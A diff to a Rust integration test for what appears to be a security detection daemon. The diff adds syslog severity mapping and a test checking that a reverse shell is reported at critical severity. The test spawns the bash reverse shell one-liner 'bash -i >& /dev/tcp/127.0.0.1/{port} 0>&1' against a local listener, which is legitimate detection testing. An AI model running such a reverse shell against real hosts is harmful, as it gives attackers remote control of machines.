@@ -18,6 +18,8 @@ use crate::harness::{Daemon, binds, record_kind, record_seq as seq};
 struct Received {
     version: String,
     facility: String,
+    /// As rsyslog names it: crit, err, warning, info, ...
+    severity: String,
     app: String,
     procid: String,
     msgid: String,
@@ -85,7 +87,7 @@ module(load="imtcp")
 input(type="imuxsock" Socket="{sock}" UseSpecialParser="off" RateLimit.Interval="0")
 input(type="imudp" address="127.0.0.1" port="{udp}" rcvbufSize="16m")
 input(type="imtcp" address="127.0.0.1" port="{tcp}")
-template(name="fields" type="string" string="%protocol-version%\t%syslogfacility-text%\t%app-name%\t%procid%\t%msgid%\t%structured-data%\t%msg%\n")
+template(name="fields" type="string" string="%protocol-version%\t%syslogfacility-text%\t%syslogseverity-text%\t%app-name%\t%procid%\t%msgid%\t%structured-data%\t%msg%\n")
 *.* action(type="omfile" file="{out}" template="fields" asyncWriting="off" flushOnTXEnd="on")
 "#,
                 dir = self.dir.display(),
@@ -131,16 +133,17 @@ template(name="fields" type="string" string="%protocol-version%\t%syslogfacility
         let text = std::fs::read_to_string(self.received_path()).unwrap_or_default();
         text.lines()
             .map(|line| {
-                let f: Vec<&str> = line.splitn(7, '\t').collect();
-                assert_eq!(f.len(), 7, "rsyslog wrote {line}");
+                let f: Vec<&str> = line.splitn(8, '\t').collect();
+                assert_eq!(f.len(), 8, "rsyslog wrote {line}");
                 Received {
                     version: f[0].into(),
                     facility: f[1].into(),
-                    app: f[2].into(),
-                    procid: f[3].into(),
-                    msgid: f[4].into(),
-                    structured_data: f[5].into(),
-                    msg: serde_json::from_str(f[6].trim_start())
+                    severity: f[2].into(),
+                    app: f[3].into(),
+                    procid: f[4].into(),
+                    msgid: f[5].into(),
+                    structured_data: f[6].into(),
+                    msg: serde_json::from_str(f[7].trim_start())
                         .unwrap_or_else(|e| panic!("the JSON did not arrive intact ({e}): {line}")),
                 }
             })
@@ -258,6 +261,102 @@ fn records_arrive_as_rfc_5424_with_their_json_over_unix_udp_and_tcp() {
             .map(|r| r.msg.clone())
             .collect::<Vec<_>>(),
     );
+}
+
+/// The syslog severity a native record must arrive at: its worst detection's (critical, high,
+/// medium: crit, err, warning), warning for what must be looked at without one (a baseline
+/// alert, lost events, a flood), else info.
+fn native_severity(v: &Value) -> &'static str {
+    let worst = v["detections"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .fold(0, |w, d| {
+            w.max(match d["severity"].as_str() {
+                Some("critical") => 3,
+                Some("high") => 2,
+                _ => 1,
+            })
+        });
+    let kind = record_kind(v);
+    let lost = kind == "loss" || kind == "flood" || v["lost_total"].as_u64().unwrap_or(0) > 0;
+    match worst {
+        3 => "crit",
+        2 => "err",
+        1 => "warning",
+        _ if lost || v.get("alert").is_some() => "warning",
+        _ => "info",
+    }
+}
+
+/// OCSF's severity_id as syslog's.
+fn ocsf_severity(v: &Value) -> &'static str {
+    match v["severity_id"].as_u64() {
+        Some(5) => "crit",
+        Some(4) => "err",
+        Some(3) => "warning",
+        _ => "info",
+    }
+}
+
+#[test]
+fn a_reverse_shell_goes_to_syslog_at_critical_severity_in_every_format() {
+    use std::io::Write;
+    let rsyslog = Rsyslog::new("severity");
+    let unix = format!("syslog:unix:{}", rsyslog.socket().display());
+    let udp = format!("syslog:udp://127.0.0.1:{},format=ocsf", rsyslog.udp);
+    let mut d = Daemon::start(&["--output", "stdout", "--output", &unix, "--output", &udp]);
+    binds(3);
+    // A reverse shell: bash connects back to this listener with its streams on the socket.
+    let back = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let back_port = back.local_addr().unwrap().port();
+    let mut outer = Command::new("bash")
+        .args([
+            "-c",
+            &format!("bash --norc -i >& /dev/tcp/127.0.0.1/{back_port} 0>&1"),
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = back.accept().unwrap();
+    let exec = d.expect("the reverse shell's exec", |v| {
+        v["event"] == "exec" && v["remote_port"] == back_port
+    });
+    conn.write_all(b"exit\n").unwrap();
+    outer.wait().unwrap();
+    assert_eq!(exec["detections"][0]["severity"], "critical", "{exec}");
+    d.sync();
+    let (status, _, _) = d.stop_with(libc::SIGINT);
+    assert!(status.success());
+    let got = rsyslog.wait_for("both sinks' stop records", |got| {
+        let m = by_format(got);
+        ["native", "ocsf"].iter().all(|f| {
+            m.get(f)
+                .is_some_and(|v| v.iter().any(|r| record_kind(&r.msg) == "stop"))
+        })
+    });
+    let m = by_format(&got);
+    for (format, messages) in &m {
+        let shell = messages
+            .iter()
+            .find(|r| exec["seq"] == seq(&r.msg))
+            .unwrap_or_else(|| panic!("{format}: the exec record did not arrive"));
+        assert_eq!(shell.severity, "crit", "{format}: {shell:?}");
+        for r in messages {
+            let want = if *format == "ocsf" {
+                ocsf_severity(&r.msg)
+            } else {
+                native_severity(&r.msg)
+            };
+            assert_eq!(r.severity, want, "{format}: {r:?}");
+        }
+        assert!(
+            messages.iter().any(|r| r.severity == "info"),
+            "{format}: ordinary records stay informational"
+        );
+    }
 }
 
 #[test]
